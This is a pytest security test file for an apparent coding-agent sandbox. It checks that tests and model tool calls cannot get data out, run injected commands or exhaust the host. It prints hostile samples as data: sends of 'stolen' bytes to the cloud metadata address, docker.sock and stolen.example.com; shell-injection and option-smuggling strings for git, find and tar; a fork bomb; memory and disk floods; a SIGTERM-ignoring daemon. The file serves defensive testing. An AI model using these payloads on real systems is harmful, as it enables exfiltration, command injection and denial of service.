"""Cases 27, 28 and 30 to 33: what the project's own tests do when they are run, and arguments."""

from __future__ import annotations

import os
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from abuse.abuse_models import PLAN, PROPOSE, Call, reply
from abuse.abuse_world import HONEST, HONEST_EDIT, World
from proving.proving_support import QUICK
from sandbox.sandbox_support import require, with_marker

PYPROJECT = f'[tool.pytest.ini_options]\naddopts = "{QUICK}"\n'
HONEST_TEST = "from honest import honest\ndef test_x(): assert honest()\n"
PASSES = "\n\ndef test_honest():\n    from honest import honest\n    assert honest() in (1, 2)\n"


def checked(world: World, source: str, **options: object) -> dict[str, object]:
    """The check of the tests in `source`, run over an honest change in a trusted folder."""
    require()
    world.write({"test_attack.py": source + PASSES, "pyproject.toml": PYPROJECT})
    ended = world.play([reply(PLAN, HONEST_EDIT, PROPOSE)], trusted=True, **options)
    assert ended["state"] == "proposed", (ended, world.results)
    found = world.editor.proposal(ended["run"])["checks"]
    world.honest(ended)
    return next(each for each in found if each["name"] == "tests")


@pytest.fixture
def unix(tmp_path: Path) -> Iterator[tuple[Path, list[bytes]]]:
    """A socket in the file system, and what comes through it."""
    path, heard = tmp_path / "s", list[bytes]()
    listening = socket.socket(socket.AF_UNIX)
    listening.bind(str(path))
    listening.listen()
    over = threading.Event()

    def listen() -> None:
        listening.settimeout(0.1)
        while not over.is_set():
            try:
                listening.accept()[0].close()
                heard.append(b"connected")
            except TimeoutError:
                continue

    thread = threading.Thread(target=listen)
    thread.start()
    yield path, heard
    over.set()
    thread.join()
    listening.close()


def test_27_and_28_nothing_gets_out_of_a_test(world: World, unix: tuple[Path, list[bytes]]) -> None:
    """TCP, UDP, names, sockets in files, Redline's own port, the address of cloud metadata."""
    port, own, path = world.ears.port, world.running.port, unix[0]
    source = f"""
import socket, subprocess, threading, urllib.request
import pytest

@pytest.mark.parametrize("place", [("127.0.0.1", {port}), ("127.0.0.1", {own}),
    ("169.254.169.254", 80), ("localhost", {port}), ("10.0.0.1", 80), ("1.1.1.1", 53)])
def test_tcp(place):
    with pytest.raises(OSError):
        socket.create_connection(place, 0.5).sendall(b"stolen")

def test_udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        for place in [("127.0.0.1", {port}), ("1.1.1.1", 53)]:
            try: udp.sendto(b"stolen", place)
            except OSError: pass

def test_names():
    with pytest.raises(OSError):
        socket.getaddrinfo("stolen.example.com", 80)

def test_unix():
    with pytest.raises(OSError):
        with socket.socket(socket.AF_UNIX) as to: to.connect({str(path)!r})
    with pytest.raises(OSError):
        with socket.socket(socket.AF_UNIX) as to: to.connect("/run/docker.sock")

def test_web():
    with pytest.raises(OSError):
        urllib.request.urlopen("{world.ears.address}/stolen", timeout=1)

def test_a_server_of_its_own_works():
    with socket.create_server(("127.0.0.1", 0)) as served:
        with socket.create_connection(served.getsockname(), 2): pass
"""
    found = checked(world, source)
    assert (found["passed"], found["ran"]) == (12, 12), found
    assert unix[1] == []


SHELL = (
    "$(touch {out}/owned)", "`touch {out}/owned`", "; touch {out}/owned", "| touch {out}/owned",
    "&& touch {out}/owned", "\n touch {out}/owned", "' ; touch {out}/owned ; '",
    "--config={out}/secret.txt", "-c{out}/secret.txt", "--output={out}/owned", "-o{out}/owned",
    "--rewrite=owned", "-U", "--update-all", "--", "-", "@{out}/secret.txt", "${{IFS}}x",
)  # fmt: skip


def test_30_and_31_words_of_a_model_are_no_commands_and_no_options(world: World) -> None:
    """Patterns go to ast-grep, names to language servers, paths to git and ruff."""
    words = [each.format(out=world.outside) for each in SHELL]
    calls: list[Call] = []
    for each in words:
        calls += [
            ("replace_pattern", {"path": HONEST, "pattern": each, "rewrite": each}),
            ("rename", {"path": HONEST, "name": "honest", "new_name": each}),
            ("search", {"query": each}),
            ("format", {"path": each}),
            ("organise_imports", {"path": each}),
            ("create_file", {"path": f"made/{each}.py", "content": "import os\n"}),
            ("format", {"path": f"made/{each}.py"}),
            ("organise_imports", {"path": f"made/{each}.py"}),
            ("git", {"arguments": ["-c", f"core.pager={each}"]}),
            ("find", {"arguments": [".", "-exec", each, ";"]}),
            ("tar", {"arguments": [f"--checkpoint-action=exec={each}"]}),
        ]
    ended = world.obey(*calls, ("revert", {}))
    world.refused("git", "find", "tar", "rename")
    world.honest(ended)


def test_31_files_named_like_options_are_files(world: World) -> None:
    """pytest, ruff and ty are given names of the workspace."""
    require()
    evil = world.outside / "evil.py"
    evil.write_text(f"open({str(world.outside / 'owned')!r}, 'w')\n", "utf-8")
    world.write(
        {
            "-pevil_test.py": HONEST_TEST,
            "--rootdir=..": "x\n",
            "test_--config=evil.toml.py": HONEST_TEST,
            f"-c{os.sep}x_test.py": HONEST_TEST,
            "--config=evil.toml": "[lint]\n",
            "test_$(touch owned).py": HONEST_TEST,
        }
    )
    found = checked(world, "")
    assert found["outcome"] == "passed"
    assert not (world.project / "owned").exists()


def test_32_and_33_a_test_uses_up_nothing_and_leaves_nothing_running(world: World) -> None:
    marker = f"abuse-marker-{os.getpid()}-{world.ears.port}"
    source = f"""
import os, signal, subprocess, sys
import pytest

def test_memory():
    done = subprocess.run([sys.executable, "-c", "x = bytearray(6 << 30)"], capture_output=True)
    assert done.returncode != 0

def test_disk():
    with pytest.raises(OSError):
        with open("/tmp/large", "wb") as file:
            for _ in range(600): file.write(b"x" * (1 << 20))

def test_output():
    for _ in range(2000): os.write(2, b"flood " * 1000)

def test_daemon():
    stay = "import signal, time; signal.signal(15, signal.SIG_IGN); time.sleep(600)"
    subprocess.Popen([sys.executable, "-c", stay, {marker!r}], start_new_session=True,
        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""
    found = checked(world, source)
    assert (found["passed"], found["ran"]) == (5, 5), found
    assert with_marker(marker) == []


def test_32_a_fork_bomb_is_defused(world: World) -> None:
    marker = f"600.{os.getpid()}{world.ears.port}"
    source = f"import subprocess\nwhile True: subprocess.Popen(['sleep', {marker!r}])\n"
    found = checked(world, source)
    assert found["outcome"] == "skipped", found
    assert "more processes" in str(found["detail"]), found
    assert with_marker(marker) == []


def test_32_what_never_ends_is_ended(world: World) -> None:
    """A limit that is met is no pass: the check says which."""
    source = "import signal\nsignal.signal(15, signal.SIG_IGN)\nwhile True: pass\n"
    found = checked(world, source, **{"checks.seconds": 1})
    assert found["outcome"] == "skipped"
    assert "did not end within 1 s" in str(found["detail"])
